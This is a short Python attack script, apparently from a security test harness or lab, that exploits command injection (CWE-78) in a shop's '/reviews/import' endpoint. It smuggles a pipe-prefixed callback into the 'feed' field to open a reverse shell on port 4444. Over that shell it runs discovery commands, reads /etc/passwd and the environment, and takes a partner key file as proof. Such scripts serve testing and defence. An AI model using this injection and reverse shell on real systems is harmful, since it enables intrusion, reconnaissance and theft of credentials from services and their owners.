#!/usr/bin/python3 -B
"""A reverse shell: a feed that is a command calls back, and somebody looks around (CWE-78)."""

from attack import Attack, call_back, session, until

DISCOVERY = ("hostname", "id", "uname -a", "cat /etc/passwd", "ls -la / /app /etc/shop", "env",
             "ps aux || ls /proc", "cat /proc/net/tcp /etc/hosts", "cat /etc/shop/partner.key")


def run(attack: Attack) -> bool:
    said = {}
    with attack.listener(4444, lambda connection: said.update(session(connection, DISCOVERY))):
        attack.ask("POST", "/reviews/import", {"feed": f"|{call_back(attack, 4444)}"})
        until(lambda: len(said) == len(DISCOVERY))
    attack.replicas["reviews"] = said.get("hostname", "")
    key = said.get(DISCOVERY[-1], "")
    return attack.prove("reviews-c41d" in key, key=key, id=said.get("id"))


Attack("T1059.004, T1082, T1083, T1049", ["edge", "reviews"],
       ["/etc/shop/partner.key", "attacker:4444"]).main(run)
